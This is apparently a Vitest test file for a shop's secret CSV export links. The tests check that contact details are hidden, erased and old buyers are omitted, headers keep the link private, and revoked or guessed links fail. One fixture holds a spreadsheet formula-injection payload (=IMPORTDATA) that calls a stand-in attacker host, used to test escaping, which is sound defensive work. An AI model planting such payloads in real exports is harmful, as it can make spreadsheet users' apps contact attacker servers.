import { desc, eq, sql } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { sheets } from '#db/schema/admin.ts'
import { auditLog } from '#db/schema/audit.ts'
import { orders } from '#db/schema/orders.ts'
import { maskText } from '#platform/log/log.server.ts'
import { db } from '#platform/postgres/database.server.ts'
import { createCheckedKey } from '#platform/secrets/checked-key.server.ts'
import { eraseCustomer } from '#shop/customers/erase-customer.server.ts'
import { createSheet, revokeSheet } from '#shop/sheets/change-sheets.server.ts'
import { listSheets } from '#shop/sheets/find-sheet.server.ts'
import { limitSheet, maxReadings } from '#shop/sheets/limit-sheets.server.ts'
import { selectSheetOrders } from '#shop/sheets/write-sheet.server.ts'
import { countPlanRows } from '#tests/database/count-plan-rows.ts'
import { addOrder } from '#tests/database/orders.ts'
import { createHttp } from './http.ts'

const owner = { ip: '203.0.113.7', name: 'owner' }
const build = { routes: {}, assets: { routes: {} }, entry: { module: {} } } as never
const http = createHttp({ build, mode: 'development', https: false })

async function create(kind: string, hasContact = false): Promise<string> {
  const created = await createSheet(owner, kind, hasContact)
  if ('refused' in created) throw new Error(created.refused)
  return new URL(created.address).pathname
}

function read(path: string, headers: Record<string, string> = {}, ip = '198.51.100.9') {
  return http.request(path, { headers }, { incoming: { socket: { remoteAddress: ip } } })
}

async function readTable(path: string): Promise<string[]> {
  const text = await (await read(path)).text()
  expect(text.startsWith('\uFEFF')).toBe(false)
  return text.trimEnd().split('\r\n')
}

describe('a sheet', () => {
  it('lists orders without contact details, unless the owner wants them', async () => {
    const bought = { status: 'completed', completedAt: new Date(), source: 'instagram' } as const
    const order = await addOrder({ ...bought, productName: '=IMPORTDATA("https://evil.example")' })
    await addOrder({ ...bought, fullName: '+91 98765', phoneNumber: '9123456780' })
    const plain = await readTable(await create('orders'))
    expect(plain[0]).toBe(
      'Order number,Ordered (Indian time),Completed (Indian time),Product,Status,Rupees,Refunded rupees,Came from',
    )
    const text = plain.join('\n')
    for (const secret of [order.email, 'Asha', '9876543210', '9123456780']) expect(text).not.toContain(secret)
    expect(text).toContain(`"'=IMPORTDATA(""https://evil.example"")",completed,1.00,0.00,instagram`)
    const full = (await readTable(await create('orders', true))).join('\n')
    expect(full).toContain(order.email)
    expect(full).toContain("'+91 98765")
  })

  it('leaves out erased buyers’ details and orders of more than 90 days ago', async () => {
    const erased = await addOrder({ status: 'completed', completedAt: new Date(), fullName: 'Gone Buyer' })
    const old = await addOrder({ status: 'completed', completedAt: new Date(), fullName: 'Old Buyer' })
    await db.update(orders).set({ createdAt: sql`now() - interval '91 days'` }).where(eq(orders.id, old.id))
    await eraseCustomer(owner, erased.customerId)
    // Tax law may keep it with the order.
    await db.update(orders).set({ fullName: 'Gone Buyer' }).where(eq(orders.id, erased.id))
    const text = (await readTable(await create('orders', true))).join('\n')
    expect(text).not.toContain('Gone Buyer')
    expect(text).not.toContain('Old Buyer')
  })

  it('does not read every buyer to know who was erased', async () => {
    const { customerId } = await addOrder({ status: 'completed', completedAt: new Date() })
    const count = 400
    await db.execute(sql`
      with buyers as (
        insert into customers (email, full_name, phone_number, class_level)
        select 'many' || n || '@example.in', 'Asha', '9876543210', 'class-10' from generate_series(1, ${count}::int) n returning id
      )
      insert into orders (id, customer_id, product_id, product_name, files, list_price_in_paise, price_in_paise, amount_in_paise,
        full_name, email, phone_number, class_level, provider)
      select 'many_' || b.id, b.id, product_id, product_name, files, 1, 1, 1, full_name, email, phone_number, class_level, 'sandbox'
      from buyers b, orders where customer_id = ${customerId}`)
    await db.execute(sql`analyze customers, orders`)
    const rows = (await readTable(await create('orders'))).length - 1
    expect(rows).toBeGreaterThan(count)
    // Each order is found, sorted, written and counted; a look at its buyer would be a fifth row.
    expect(await countPlanRows(selectSheetOrders)).toBeLessThan(4.5 * rows)
  })

  it('adds up the months, and counts a refund when the money went back', async () => {
    const path = await create('months', true)
    const before = await readTable(path)
    await addOrder({ status: 'completed', completedAt: new Date(), amountInPaise: 20_050 })
    await addOrder({ status: 'completed', completedAt: new Date(), amountInPaise: 10_000, refundedAt: new Date() })
    const [head, month = ''] = await readTable(path)
    expect(head).toMatch(/^Month,Orders,Paid orders,/)
    const figures = (line: string) => line.split(',').slice(1).map(Number)
    const earlier = before[1] ? figures(before[1]) : []
    const added = figures(month).map((figure, index) => Math.round((figure - (earlier[index] ?? 0)) * 100) / 100)
    expect(added).toEqual([2, 2, 0, 300.5, 1, 100, 200.5])
    // It has no contact details to show.
    expect((await listSheets()).at(-1)).toMatchObject({ kind: 'months', hasContact: false })
  })

  it('is a secret: hashed, not stored by proxies or search engines, without a referrer, hidden in the log', async () => {
    const path = await create('orders')
    const answer = await read(path)
    expect(answer.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('Cache-Control')).toBe('private, no-cache')
    expect(answer.headers.get('X-Robots-Tag')).toContain('noindex')
    expect(answer.headers.get('Referrer-Policy')).toBe('no-referrer')
    expect(maskText(`failed at ${path}`)).toBe('failed at /sheets/[redacted]')
    const key = path.slice('/sheets/'.length, -'.csv'.length)
    const stored = JSON.stringify([await db.select().from(sheets), await db.select().from(auditLog)])
    expect(stored).not.toContain(key)
    const lines = await db.select().from(auditLog).where(eq(auditLog.act, 'sheet-read')).orderBy(desc(auditLog.id))
    expect(lines[0]).toMatchObject({ actor: null, detail: { table: 'orders', ending: key.slice(-4) } })
  })

  it('answers 304 while nothing has changed', async () => {
    const path = await create('orders')
    const etag = (await read(path)).headers.get('ETag') ?? ''
    expect((await read(path, { 'If-None-Match': etag })).status).toBe(304)
    await addOrder()
    expect((await read(path, { 'If-None-Match': etag })).status).toBe(200)
  })

  it('ends when it is revoked, cannot be guessed and opens nothing else', async () => {
    const path = await create('orders')
    const id = (await listSheets()).at(-1)?.id ?? 0
    const key = path.slice('/sheets/'.length, -'.csv'.length)
    const asKey = await http.request('/api/v1/orders', { headers: { Authorization: `Bearer ${key}` } })
    expect(asKey.status).toBe(401)
    expect(await revokeSheet(owner, id)).toEqual({})
    expect(await revokeSheet(owner, id)).toEqual({ refused: 'gone' })
    expect((await read(path)).status).toBe(404)
    const ip = '198.51.100.99'
    const guesses = Array.from({ length: 21 }, () => `/sheets/${createCheckedKey('bbs_')}.csv`)
    const statuses: number[] = []
    for (const guess of guesses) statuses.push((await read(guess, {}, ip)).status)
    expect(statuses).toEqual([...Array<number>(20).fill(404), 429])
    expect((await read(await create('orders'), {}, ip)).status).toBe(200)
    expect(await createSheet(owner, 'customers', true)).toEqual({ refused: 'unknown-kind' })
  })

  it('is limited by itself', async () => {
    const [busy, other] = [await create('months'), await create('months')]
    const id = (await listSheets()).at(-2)?.id ?? 0
    for (let count = 0; count < maxReadings; count++) await limitSheet(id)
    const limited = await read(busy)
    expect(limited.status).toBe(429)
    expect(Number(limited.headers.get('Retry-After'))).toBeGreaterThan(0)
    expect((await read(other)).status).toBe(200)
  })
})
